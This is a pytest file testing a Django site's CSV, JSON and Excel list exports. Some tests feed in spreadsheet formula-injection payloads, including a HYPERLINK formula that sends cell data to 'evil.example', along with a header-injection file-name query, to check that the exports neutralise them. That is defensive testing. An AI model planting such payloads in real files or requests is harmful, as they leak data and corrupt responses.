"""?format=csv, ?format=json and ?format=xlsx on every list: the filtered rows, all of them, streamed
(cooperation/core/exports.py, cooperation/core/workbooks.py, and FilteredListView's exports in
cooperation/core/listing/views.py).

The columns of each list are tested with its app (tests/<app>/test_exports.py)."""

import codecs
import csv
import io
import json
import re

import openpyxl
import pytest
from django.contrib.contenttypes.models import ContentType

from cooperation.core import exports
from cooperation.core.partial_dates import PartialDate as PD
from cooperation.imports import formats
from cooperation.models import Agreement, Project
from events.models import Meeting
from events.views import MeetingListView
from partners.models import Office, Partner
from tests import factories as f
from tests.helpers.exports import (
    LIST_VIEWS,
    csv_rows,
    export,
    json_export,
    parse_csv,
    streamed_body,
    xlsx_rows,
    xlsx_sheet,
)
from tests.helpers.listing import DATA_VERSION

pytestmark = pytest.mark.django_db


def csv_header(response):
    data = streamed_body(response).decode("utf-8-sig")
    return next(csv.reader(io.StringIO(data, newline="")))


def page_slugs(client, path):
    """The slugs a list shows, page after page, in order."""
    separator = "&" if "?" in path else "?"
    slugs, number, last = [], 1, 1
    while number <= last:
        response = client.get(f"{path}{separator}page={number}")
        slugs += [record.slug for record in response.context["object_list"]]
        last = response.context["page_obj"].paginator.num_pages
        number += 1
    return slugs


# Every list: the export holds the page's rows, all of them ------------------------------------


def many_partners():
    for n in range(30):
        f.PartnerFactory(name=f"State {n:02}", kind="state", scope="bilateral")
    f.PartnerFactory.create_batch(3)
    f.PartnerFactory(name="Draft state", kind="state", published=False)


def many_offices():
    iom = f.PartnerFactory(slug="iom")
    for n in range(30):
        f.OfficeFactory(partner=iom, country="AZ", opened=PD(1990 + n % 7) if n % 5 else None)
    f.OfficeFactory(partner=iom, country="CH")
    f.OfficeFactory(partner=f.PartnerFactory(), country="AZ")
    f.OfficeFactory(partner=iom, country="AZ", published=False)


def many_agreements():
    eu = f.PartnerFactory(slug="eu")
    for n in range(30):
        f.AgreementFactory(parties=[eu], signed=PD(2014, 1 + n % 12) if n % 4 else PD(2014))
    f.AgreementFactory(parties=[eu], signed=PD(2013))
    f.AgreementFactory(parties=[f.PartnerFactory()], signed=PD(2014))
    f.AgreementFactory(parties=[eu], signed=PD(2014), published=False)


def many_projects():
    asylum = f.TopicFactory(slug="asylum")
    for n in range(30):
        f.ProjectFactory(topics=[asylum], start=PD(2010 + n % 5), status="ongoing", status_as_of=PD(2016))
    f.ProjectFactory(topics=[asylum], start=PD(2016), status="ongoing")
    f.ProjectFactory(topics=[f.TopicFactory()], start=PD(2012), status="ongoing")
    f.ProjectFactory(topics=[asylum], start=PD(2012), status="ongoing", published=False)


def many_meetings():
    iom = f.PartnerFactory(slug="iom")
    for n in range(30):
        f.MeetingFactory(partners=[iom], kind="visit", start=PD(2000 + n % 9, 1 + n % 12, 1 + n % 28))
    f.MeetingFactory(partners=[iom], kind="summit")
    f.MeetingFactory(partners=[f.PartnerFactory()], kind="visit")
    f.MeetingFactory(partners=[iom], kind="visit", published=False)


def many_topics():
    for n in range(30):
        f.TopicFactory(name=f"Topic {n:02}")
    f.TopicFactory(name="Draft topic", published=False)


def many_people():
    iom = f.PartnerFactory(slug="iom")
    for n in range(30):
        f.PostFactory(person=f.PersonFactory(name=f"Official {n:02}"), organisation=iom, title="Chief of Mission")
    f.PostFactory(organisation=f.PartnerFactory(), title="Minister")
    f.PersonFactory(name="Draft official", published=False)


def many_sources():
    for n in range(30):
        f.SourceFactory(title=f"Report {n:02}", kind="report", publisher="IOM", date=PD(2000 + n % 5))
    f.SourceFactory(title="Press release", kind="press-release", publisher="UNHCR")
    f.SourceFactory(title="Draft report", kind="report", publisher="IOM", published=False)


MAKE_MANY = {
    "partners": many_partners,
    "offices": many_offices,
    "agreements": many_agreements,
    "projects": many_projects,
    "meetings": many_meetings,
    "topics": many_topics,
    "people": many_people,
    "sources": many_sources,
}
ALL_PAGES = [
    (many_partners, "/partners/?kind=state&sort=newest"),
    (many_partners, "/partners/"),
    (many_offices, "/offices/?partner=iom&country=az"),
    (many_offices, "/offices/?sort=newest"),
    (many_agreements, "/agreements/?partner=eu&year=2014&sort=oldest"),
    (many_agreements, "/agreements/"),
    (many_projects, "/projects/?topic=asylum&year=2014&status=ongoing"),
    (many_projects, "/projects/?sort=title"),
    (many_meetings, "/meetings/?partner=iom&kind=visit"),
    (many_meetings, "/meetings/?sort=oldest"),
    (many_topics, "/topics/"),
    (many_people, "/people/?partner=iom"),
    (many_sources, "/sources/?kind=report&publisher=IOM&sort=oldest"),
]


@pytest.mark.parametrize(("make", "path"), ALL_PAGES)
def test_export_rows_are_the_rows_of_every_page_of_the_list(client, make, path):
    make()
    shown = page_slugs(client, path)
    assert len(shown) > 25  # more than one page
    assert [row["slug"] for row in export(client, path, "csv")] == shown
    assert [row["slug"] for row in export(client, path, "json")] == shown
    assert [row["slug"] for row in export(client, path, "xlsx")] == shown


@pytest.mark.parametrize("name", LIST_VIEWS)
def test_every_list_declares_its_columns_and_every_format_uses_them(client, name):
    view = LIST_VIEWS[name]
    assert view.export_spec is formats.SPECS[name]
    assert view.export_spec.path == f"/{name}/"
    headers = view.export_spec.headers
    assert headers[0] == "slug" and headers[-1] == "url" and len(set(headers)) == len(headers)
    assert csv_header(client.get(f"/{name}/?format=csv")) == headers  # no rows: the header alone
    MAKE_MANY[name]()
    assert csv_header(client.get(f"/{name}/?format=csv")) == headers
    results = json_export(client.get(f"/{name}/?format=json"))["results"]
    assert results and all(list(result) == headers for result in results)
    header = next(xlsx_sheet(client.get(f"/{name}/?format=xlsx")).iter_rows(max_row=1))
    assert [cell.value for cell in header] == headers and all(cell.font.b for cell in header)


@pytest.mark.parametrize("name", LIST_VIEWS)
def test_csv_cells_are_the_json_values_written_out_and_the_xlsx_cells_the_csv_cells(client, name):
    MAKE_MANY[name]()
    rows = export(client, f"/{name}/", "csv")
    results = export(client, f"/{name}/", "json")
    sheet_rows = export(client, f"/{name}/", "xlsx")
    assert len(rows) == len(results) == len(sheet_rows) > 25
    for row, result, sheet_row in zip(rows, results, sheet_rows, strict=True):
        assert row == {key: str(exports.csv_cell(value)) for key, value in result.items()}
        assert {key: "" if value is None else str(value) for key, value in sheet_row.items()} == row


def test_csv_is_rfc_4180_with_a_bom_and_crlf(client):
    text = 'He said "yes", then left;\nthe end'
    f.MeetingFactory(slug="quoted", title="Commas, quotes", description=text)
    data = streamed_body(client.get("/meetings/?format=csv"))
    assert data.startswith(codecs.BOM_UTF8 + b'"slug","title","title_az","title_ru","kind",')
    assert b'"Commas, quotes"' in data and b'"He said ""yes"", then left;\nthe end"' in data
    assert data.endswith(b'/meetings/quoted/"\r\n')
    [row] = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert row["description"] == text and row["title"] == "Commas, quotes"


def test_xlsx_dates_are_text_cells_so_excel_keeps_them_as_written(client):
    f.MeetingFactory(slug="m", start=PD(2000, 12), end=PD(2017, 2, 23), status_as_of=PD(1998))
    response = client.get("/meetings/?format=xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="meetings.xlsx"'
    sheet = xlsx_sheet(response)
    assert sheet.title == "meetings" and sheet.freeze_panes == "A2"
    header, row = list(sheet.iter_rows())
    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
    written = {name: cells[name].value for name in ("start", "start_iso", "end_iso", "end_edtf", "status_as_of_iso")}
    assert written == {
        "start": "December 2000",
        "start_iso": "2000-12",
        "end_iso": "2017-02-23",
        "end_edtf": "2017-02-23",
        "status_as_of_iso": "1998",
    }
    for name in written:
        assert (cells[name].data_type, cells[name].number_format) == ("s", "@")


def test_xlsx_a_number_stays_a_number_and_a_formula_is_quoted_text(client):
    f.PartnerFactory(slug="p", name=HYPERLINK, acronym="", member_states=175, other_names="=cmd\n+other")
    header, row = list(xlsx_sheet(client.get("/partners/?format=xlsx")).iter_rows())
    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
    assert (cells["member_states"].value, cells["member_states"].data_type) == (175, "n")
    assert cells["member_states"].number_format == "General"
    assert (cells["name"].value, cells["name"].data_type) == ("'" + HYPERLINK, "s")
    assert (cells["other_names"].value, cells["other_names"].data_type) == ("'=cmd; +other", "s")
    assert [cell.value for cell in row if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)] == []


def test_xlsx_drops_characters_a_workbook_cannot_hold(client):
    f.MeetingFactory(slug="m", title="Bell\x07 and tab\tkept")
    [row] = export(client, "/meetings/", "xlsx")
    assert row["title"] == "Bell and tab\tkept"


# Formulas: a text a spreadsheet program would run is quoted -------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# (the text as stored, the cell the CSV holds): a text that begins with a formula trigger, or
# with quotes and a trigger, gets one more quote in front; the import takes it off again.
FORMULAS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("'=1+1", "''=1+1"),
    ("''-1", "'''-1"),
]
NOT_FORMULAS = ["'quoted'", "a=b", "Plan B - phase 2", "'", "1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
TITLED = {
    "partners": (f.PartnerFactory, "name"),
    "offices": (f.OfficeFactory, "name"),
    "agreements": (f.AgreementFactory, "title"),
    "projects": (f.ProjectFactory, "title"),
    "meetings": (f.MeetingFactory, "title"),
    "topics": (f.TopicFactory, "name"),
    "people": (f.PersonFactory, "name"),
    "sources": (f.SourceFactory, "title"),
}


@pytest.mark.parametrize(("text", "cell"), FORMULAS + [(text, text) for text in NOT_FORMULAS])
def test_a_text_that_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_csv_not_the_json(client, text, cell):
    f.MeetingFactory(slug="m", title=text, city=text, participants_note=text)
    [row] = export(client, "/meetings/", "csv")
    assert (row["title"], row["city"], row["participants_note"]) == (cell, cell, cell)
    [result] = export(client, "/meetings/", "json")
    assert (result["title"], result["city"], result["participants_note"]) == (text, text, text)


@pytest.mark.parametrize("name", LIST_VIEWS)
def test_no_cell_of_any_csv_export_begins_with_a_formula_trigger(client, name):
    factory, field = TITLED[name]
    factory(**{field: HYPERLINK})
    data = streamed_body(client.get(f"/{name}/?format=csv"))
    assert b'"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' in data
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    assert "'" + HYPERLINK in cells
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []


def test_a_many_valued_cell_is_quoted_by_its_first_value_and_a_number_stays_a_bare_number(client):
    f.PartnerFactory(slug="p", name="-175", acronym="", member_states=175, other_names="=cmd\n+other")
    data = streamed_body(client.get("/partners/?format=csv"))
    assert b',"\'-175",' in data and b",175," in data  # text in quotes, the number bare
    [row] = parse_csv(data)
    assert (row["name"], row["other_names"], row["member_states"]) == ("'-175", "'=cmd; +other", "175")
    [result] = export(client, "/partners/", "json")
    assert (result["name"], result["other_names"], result["member_states"]) == ("-175", ["=cmd", "+other"], 175)


# Drafts appear nowhere ------------------------------------------------------------------------


def test_drafts_appear_in_no_export_neither_as_rows_nor_as_related_records(client):
    draft_partner = f.PartnerFactory(slug="secret-partner", name="Secret Partner", acronym="SECRET", published=False)
    draft_topic = f.TopicFactory(slug="secret-topic", name="Secret topic", published=False)
    draft_agreement = f.AgreementFactory(slug="secret-agreement", title="Secret agreement", published=False)
    draft_project = f.ProjectFactory(slug="secret-project", title="Secret project", published=False)
    draft_person = f.PersonFactory(slug="secret-person", name="Secret Person", published=False)
    draft_source = f.SourceFactory(slug="secret-source", title="Secret source", published=False)
    f.MeetingFactory(slug="secret-meeting", title="Secret meeting", published=False)
    f.OfficeFactory(slug="secret-office", name="Secret office", published=False)
    iom = f.PartnerFactory(slug="iom", acronym="IOM", parent=draft_partner)
    f.CitationFactory(content_object=iom, source=draft_source)
    agreement = f.AgreementFactory(slug="public-agreement", parties=[iom, draft_partner])
    agreement.topics.set([draft_topic])
    f.CitationFactory(content_object=agreement, source=draft_source)
    project = f.ProjectFactory(slug="public-project", topics=[draft_topic])
    project.agreements.set([draft_agreement])
    f.ProjectPartnerFactory(project=project, partner=draft_partner, role="funding")
    f.ProjectPartnerFactory(project=project, partner=iom)
    meeting = f.MeetingFactory(slug="public-meeting", partners=[iom, draft_partner])
    meeting.participants.set([draft_person])
    meeting.agreements.set([draft_agreement, agreement])
    meeting.projects.set([draft_project])
    f.OfficeFactory(slug="office-of-a-draft", partner=draft_partner)
    f.OfficeFactory(slug="public-office", partner=iom)
    f.TopicFactory(slug="public-topic")
    f.PostFactory(person=f.PersonFactory(slug="public-person"), organisation=draft_partner, title="Secret post")
    f.SourceFactory(slug="public-source")
    for name in LIST_VIEWS:
        for export_format in exports.FORMATS:
            response = client.get(f"/{name}/?format={export_format}")
            if export_format == "xlsx":
                text = "\n".join(str(cell) for row in xlsx_sheet(response).iter_rows(values_only=True) for cell in row)
            else:
                text = streamed_body(response).decode("utf-8-sig")
            assert "public" in text or name == "partners"
            assert "secret" not in text.lower(), (name, export_format)
            assert "office-of-a-draft" not in text
    [row] = export(client, "/projects/")
    assert (row["partners"], row["partner_slugs"], row["topics"], row["agreements"]) == (
        "IOM (implementing)",
        "iom:implementing",
        "",
        "",
    )
    [iom_row] = [row for row in export(client, "/partners/") if row["slug"] == "iom"]
    assert (iom_row["parent"], iom_row["parent_slug"], iom_row["sources"]) == ("", "", "")


# Bad values are ignored as on the page --------------------------------------------------------


def test_bad_filter_values_are_ignored_as_on_the_page_and_named_in_the_json_header(client):
    many_projects()
    bad = "/projects/?topic=asylum&topic=nope&year=abc&sort=sideways&colour=blue&status=finished&page=99"
    shown = page_slugs(client, "/projects/?topic=asylum")
    assert [row["slug"] for row in export(client, bad, "csv")] == shown
    document = json_export(client.get(bad + "&format=json"))
    assert [result["slug"] for result in document["results"]] == shown
    assert document["filters"] == {"topic": ["asylum"]}
    assert document["sort"] == "newest"
    assert document["count"] == len(shown)
    assert [notice["parameter"] for notice in document["ignored"]] == ["topic", "status", "year", "sort", "colour"]
    assert document["ignored"][0]["message"] == "There is no topic “nope”; that filter was ignored."
    assert set(document) == {"list", "filters", "sort", "ignored", "count", "results"}
    assert document["list"] == "projects"


def test_an_unknown_format_shows_the_page_with_a_notice(client):
    f.ProjectFactory(title="Alpha")
    response = client.get("/projects/?format=xml")
    assert response.status_code == 200 and not response.streaming
    assert [record.title for record in response.context["object_list"]] == ["Alpha"]
    assert [str(notice) for notice in response.context["notices"]] == [
        "“xml” is not a download format (use csv, json or xlsx); showing the page."
    ]
    assert client.get("/projects/?format=CSV").streaming


def test_json_header_counts_the_results_and_lists_the_filters_in_declared_order(client):
    many_meetings()
    document = json_export(client.get("/meetings/?year=2003&kind=visit&partner=iom&format=json"))
    assert list(document) == ["list", "filters", "sort", "ignored", "count", "results"]
    assert document["filters"] == {"partner": ["iom"], "kind": ["visit"], "year": ["2003"]}
    assert document["ignored"] == []
    assert (
        document["count"]
        == len(document["results"])
        == Meeting.objects.filter(published=True, kind="visit", start__year=2003, partners__slug="iom").count()
    )


# File names -----------------------------------------------------------------------------------


@pytest.fixture
def named_things():
    f.TopicFactory(slug="asylum")
    f.TopicFactory(slug="readmission")
    f.PartnerFactory(slug="iom", name="Republic of Türkiye")


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("/projects/?year=2014&topic=asylum&format=csv", "projects-topic-asylum-2014.csv"),
        ("/agreements/?format=json", "agreements.json"),
        ("/agreements/?year=1999&format=xlsx", "agreements-1999.xlsx"),
        ("/projects/?topic=nope&year=abc&sort=title&format=csv", "projects.csv"),
        (
            "/projects/?year=2015&year=2014&status=ongoing&partner=iom&topic=readmission&topic=asylum&format=csv",
            "projects-topic-readmission-asylum-partner-iom-status-ongoing-2015-2014.csv",
        ),
        ("/meetings/?partner=iom&kind=VISIT&format=json", "meetings-partner-iom-kind-visit.json"),
        ("/offices/?country=az&format=csv", "offices-country-az.csv"),
        ("/partners/?q=T%C3%BCrkiye&kind=state&format=csv", "partners-kind-state-q-turkiye.csv"),
        ("/partners/?q=%22%3B%0D%0Ax-evil%3A+1/..\\&format=csv", "partners-q-x-evil-1.csv"),
    ],
)
def test_file_name_says_what_was_filtered(client, named_things, query, name):
    response = client.get(query)
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'


def test_file_name_is_cut_to_a_safe_length():
    name = exports.filename("projects", {"topic": ["a" * 100, "b" * 100]}, extension="csv")
    assert name == "projects-topic-" + "a" * 100 + "-" + "b" * 4 + ".csv"
    assert len(name) <= exports.MAX_FILENAME_LENGTH + len(".csv")
    assert exports.filename("projects", {"q": ["!!!"]}, extension="json") == "projects-q.json"


# The download links on the page ---------------------------------------------------------------


@pytest.mark.parametrize("name", LIST_VIEWS)
def test_every_list_shows_download_links(client, name):
    content = client.get(f"/{name}/").content.decode()
    assert re.search(r'This list as <a href="\?format=csv"[^>]*>CSV</a>', content)
    assert re.search(r'<a href="\?format=json"[^>]*>JSON</a>', content)
    assert re.search(r'<a href="\?format=xlsx"[^>]*>Excel</a>', content)
    assert re.search(rf'<a href="/api/{name}/"[^>]*>API</a>', content)


def test_the_api_link_carries_the_filters_and_sort_and_answers_the_same_rows(client):
    many_projects()
    response = client.get("/projects/?topic=asylum&topic=nope&year=2012&sort=oldest&page=2")
    assert response.context["api_link"] == "/api/projects/?sort=oldest&topic=asylum&year=2012"
    shown = page_slugs(client, "/projects/?topic=asylum&year=2012&sort=oldest")
    api = client.get(response.context["api_link"]).json()
    assert [result["slug"] for result in api["results"]] == shown[: len(api["results"])]
    assert api["count"] == len(shown)


def test_download_links_carry_the_filters_and_sort_but_not_the_page_or_bad_values(client):
    many_projects()
    response = client.get("/projects/?topic=asylum&topic=nope&year=2012&sort=oldest&page=2&colour=blue")
    assert response.context["downloads"] == {
        "csv": "?format=csv&sort=oldest&topic=asylum&year=2012",
        "json": "?format=json&sort=oldest&topic=asylum&year=2012",
        "xlsx": "?format=xlsx&sort=oldest&topic=asylum&year=2012",
    }
    content = response.content.decode()
    assert 'href="?format=csv&amp;sort=oldest&amp;topic=asylum&amp;year=2012"' in content
    shown = page_slugs(client, "/projects/?topic=asylum&year=2012&sort=oldest")
    assert [row["slug"] for row in csv_rows(client.get("/projects/" + response.context["downloads"]["csv"]))] == shown
    # The default sort is left out, as the page's own links leave it out.
    assert client.get("/projects/?sort=newest").context["downloads"]["csv"] == "?format=csv"


def test_download_links_carry_the_search_text(client):
    response = client.get("/partners/?q=organisation&kind=state")
    assert response.context["downloads"]["json"] == "?format=json&kind=state&q=organisation"


# Queries and streaming ------------------------------------------------------------------------


def make_rows(count):
    partner = f.PartnerFactory(slug="p")
    topic = f.TopicFactory(slug="t")
    source = f.SourceFactory()
    for _ in range(count):
        project = f.ProjectFactory(topics=[topic, f.TopicFactory()])
        project.agreements.set([f.AgreementFactory()])
        f.ProjectPartnerFactory(project=project, partner=partner)
        f.ProjectPartnerFactory(project=project, role="funding")
        f.BudgetFactory(project=project)
        f.TransactionTotalFactory(project=project)
        agreement = f.AgreementFactory(parties=[partner, f.PartnerFactory()])
        agreement.topics.set([topic])
        meeting = f.MeetingFactory(partners=[partner, f.PartnerFactory()])
        meeting.participants.set([f.PersonFactory()])
        meeting.projects.set([project])
        meeting.agreements.set([agreement])
        office = f.OfficeFactory(partner=partner)
        for record in (project, agreement, meeting, office, partner):
            f.CitationFactory(content_object=record, source=source)
    f.PartnerFactory(slug="child", parent=partner)


EXPORT_QUERIES = {
    # The slugs looked up, then per chunk of rows: the rows and one query per related list.
    # JSON adds the count (and the data version it is cached under).
    # (a project's partners, topics, agreements, budgets, transaction totals, citations)
    "/projects/?topic=t&partner=p&year=2014&status=ongoing": 2 + 1 + 6,
    "/agreements/?partner=p&kind=cooperation-agreement&year=1999": 1 + 1 + 4,  # parties, topics, actions, citations
    "/meetings/?partner=p&kind=bilateral-meeting&year=2016": 1 + 1 + 5,
    "/offices/?partner=p&country=az": 1 + 1 + 1,
    "/partners/?kind=international-organisation&q=partner": 0 + 1 + 1,
}
# The CSVs whose lines are kept (cooperation/core/export_lines.py): the slugs looked up, DATA's and
# ALL's versions, then per chunk the rows with their lines. The first export also makes the lines
# as above (the rows read again, and their related lists) and keeps them: a savepoint, DATA's row
# locked, the insert, the savepoint released.
STORED_LINES_QUERIES = {"/projects/?topic=t&partner=p&year=2014&status=ongoing": 2 + 1 + 1}
KEEPING_LINES = 4


def warm_content_types():
    """Citations are a generic relation: their content types come from Django's cache."""
    ContentType.objects.get_for_models(Partner, Office, Agreement, Project, Meeting)


@pytest.mark.parametrize("export_format", exports.FORMATS)
@pytest.mark.parametrize("rows", [1, 50])
@pytest.mark.parametrize(("path", "queries"), EXPORT_QUERIES.items())
def test_exports_run_the_same_queries_for_1_or_50_rows(
    client, django_assert_num_queries, rows, path, queries, export_format
):
    make_rows(rows)
    warm_content_types()
    expected = queries + (DATA_VERSION + 1 if export_format == "json" else 0)
    stored = STORED_LINES_QUERIES.get(path) if export_format == "csv" else None
    if stored is not None:
        expected = stored + queries - 2 + KEEPING_LINES
    with django_assert_num_queries(expected):
        response = client.get(f"{path}&format={export_format}")
        data = streamed_body(response)
    if stored is not None:  # the second reads its lines
        with django_assert_num_queries(stored):
            assert streamed_body(client.get(f"{path}&format={export_format}")) == data
    count = {
        "csv": lambda: len(parse_csv(data)),
        "json": lambda: len(json.loads(data)["results"]),
        "xlsx": lambda: openpyxl.load_workbook(io.BytesIO(data)).active.max_row - 1,
    }[export_format]()
    # Every partner's name has "partner" in it: three made a row, the shared one and its child.
    assert count == (3 * rows + 2 if path.startswith("/partners/") else rows)


@pytest.mark.parametrize(("chunk_size", "chunks"), [(10, 5), (25, 2), (50, 1), (1000, 1)])
def test_export_queries_grow_with_chunks_not_rows(client, django_assert_num_queries, monkeypatch, chunk_size, chunks):
    make_rows(50)
    warm_content_types()
    monkeypatch.setattr(MeetingListView, "export_chunk_size", chunk_size)
    # The rows' query once; the meetings' five related lists once per chunk.
    with django_assert_num_queries(1 + 5 * chunks):
        rows = csv_rows(client.get("/meetings/?format=csv"))
    assert len(rows) == 50
    assert all(row["partners"] and row["participants"] and row["sources"] for row in rows)


def test_exports_are_streamed_in_pieces(client, monkeypatch):
    monkeypatch.setattr(exports, "BUFFER_SIZE", 1000)
    f.MeetingFactory.create_batch(40)
    response = client.get("/meetings/?format=csv")
    assert response.streaming
    assert not response.has_header("Content-Length")
    pieces = list(response.streaming_content)
    assert len(pieces) > 5 and all(isinstance(piece, bytes) for piece in pieces)
    assert len(csv_rows(client.get("/meetings/?format=csv"))) == 40


def test_xlsx_export_is_handed_over_in_pieces(client, monkeypatch):
    monkeypatch.setattr(exports, "BUFFER_SIZE", 1000)
    f.MeetingFactory.create_batch(40)
    response = client.get("/meetings/?format=xlsx")
    assert response.streaming and not response.has_header("Content-Length")
    pieces = list(response.streaming_content)
    assert len(pieces) > 5 and all(isinstance(piece, bytes) and len(piece) <= 1000 for piece in pieces)
    assert len(xlsx_rows(client.get("/meetings/?format=xlsx"))) == 40
